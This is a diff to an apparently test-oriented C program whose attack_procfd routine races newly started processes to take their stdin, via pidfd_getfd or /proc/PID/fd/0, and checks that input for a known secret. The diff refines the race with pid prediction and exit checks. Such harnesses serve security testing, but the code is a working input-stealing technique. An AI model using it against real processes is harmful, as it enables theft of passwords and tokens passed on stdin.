@@ -98,6 +98,13 @@ static bool peek_for_secret(int fd, const char *secret)
     return false;
 }
 
+static bool has_exited(int pidfd)
+{
+    struct pollfd exited = {pidfd, POLLIN, 0};
+
+    return pidfd < 0 || poll(&exited, 1, 0) != 0;
+}
+
 /* Takes the child's fd 0 as soon as the kernel lets us, for RACE_MS at most. */
 static bool steal_stdin(pid_t child, const char *secret)
 {
@@ -108,11 +115,8 @@ static bool steal_stdin(pid_t child, const char *secret)
 
     if (pidfd < 0)
         return false;
-    while (fd < 0 && now_ms() < until) {
+    while (fd < 0 && !has_exited(pidfd) && now_ms() < until)
         fd = (int)syscall(SYS_pidfd_getfd, pidfd, 0, 0);
-        if (fd < 0 && errno == ESRCH)
-            break;
-    }
     if (fd >= 0) {
         found = peek_for_secret(fd, secret);
         close(fd);
@@ -213,20 +217,21 @@ static bool tee_for_secret(int fd, const char *secret)
     return found;
 }
 
-/* Opens /proc/PID/fd/0 as soon as the kernel lets us, for RACE_MS at most, and tees it. */
+/* Opens /proc/PID/fd/0 as soon as the kernel lets us - while the process lives, RACE_MS at
+ * most - and tees it. */
 static bool open_stdin(pid_t pid, const char *secret)
 {
     char path[64];
     long long until = now_ms() + RACE_MS;
+    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
     bool found = false;
     int fd = -1;
 
     snprintf(path, sizeof(path), "/proc/%d/fd/0", (int)pid);
-    while (fd < 0 && now_ms() < until) {
+    while (fd < 0 && !has_exited(pidfd) && now_ms() < until)
         fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
-        if (fd < 0 && errno == ENOENT)
-            break;
-    }
+    if (pidfd >= 0)
+        close(pidfd);
     if (fd >= 0) {
         found = tee_for_secret(fd, secret);
         close(fd);
@@ -235,6 +240,7 @@ static bool open_stdin(pid_t pid, const char *secret)
 }
 
 struct watch {
+    pid_t next_pid;
     pid_t seen[SEEN_MAX];
     int seen_count;
     int raced, read_secret;
@@ -249,6 +255,22 @@ static bool was_seen(const struct watch *watch, pid_t pid)
     return false;
 }
 
+static void look_at(struct watch *watch, pid_t pid, const char *secret)
+{
+    int kind;
+
+    if (pid <= 0 || pid == getpid() || was_seen(watch, pid))
+        return;
+    kind = classify(pid);
+    if (kind >= 0 && watch->seen_count < SEEN_MAX)
+        watch->seen[watch->seen_count++] = pid;
+    if (kind == 1) {
+        watch->raced++;
+        watch->read_secret += open_stdin(pid, secret);
+    }
+}
+
+/* Every process in /proc; the highest pid seen goes to watch->next_pid. */
 static void scan_processes(struct watch *watch, const char *secret)
 {
     DIR *proc = opendir("/proc");
@@ -258,18 +280,33 @@ static void scan_processes(struct watch *watch, const char *secret)
         return;
     while ((entry = readdir(proc)) != NULL) {
         pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);
-        int kind;
-        if (pid <= 0 || pid == getpid() || was_seen(watch, pid))
-            continue;
-        kind = classify(pid);
-        if (kind >= 0 && watch->seen_count < SEEN_MAX)
-            watch->seen[watch->seen_count++] = pid;
-        if (kind == 1) {
-            watch->raced++;
-            watch->read_secret += open_stdin(pid, secret);
-        }
+        look_at(watch, pid, secret);
+        if (pid >= watch->next_pid)
+            watch->next_pid = pid + 1;
     }
     closedir(proc);
+}
+
+/* Pids are handed out in order: the next few are where a new process appears first. */
+static void probe_next_pids(struct watch *watch, const char *secret)
+{
+    for (pid_t pid = watch->next_pid - 8; pid < watch->next_pid + 64; pid++) {
+        char path[64];
+        snprintf(path, sizeof(path), "/proc/%d", (int)pid);
+        if (access(path, F_OK) != 0)
+            continue;
+        look_at(watch, pid, secret);
+        if (pid >= watch->next_pid)
+            watch->next_pid = pid + 1;
+    }
+}
+
+static volatile sig_atomic_t told_to_stop;
+
+static void stop(int signal_number)
+{
+    (void)signal_number;
+    told_to_stop = 1;
 }
 
 static int attack_procfd(const char *secret, int tries, int seconds)
@@ -277,11 +314,15 @@ static int attack_procfd(const char *secret, int tries, int seconds)
     static struct watch watch;
     long long until = now_ms() + (long long)seconds * 1000;
 
+    signal(SIGTERM, stop);
     /* Whatever runs already is not a fresh start. */
     scan_processes(&watch, "\x01 never matches \x01");
     watch.raced = watch.read_secret = 0;
-    while (watch.raced < tries && now_ms() < until)
-        scan_processes(&watch, secret);
+    for (unsigned round = 1; watch.raced < tries && now_ms() < until && !told_to_stop; round++) {
+        if (round % 256 == 0)
+            scan_processes(&watch, secret);
+        probe_next_pids(&watch, secret);
+    }
     printf("tries %d successes %d\n", watch.raced, watch.read_secret);
     return 0;
 }
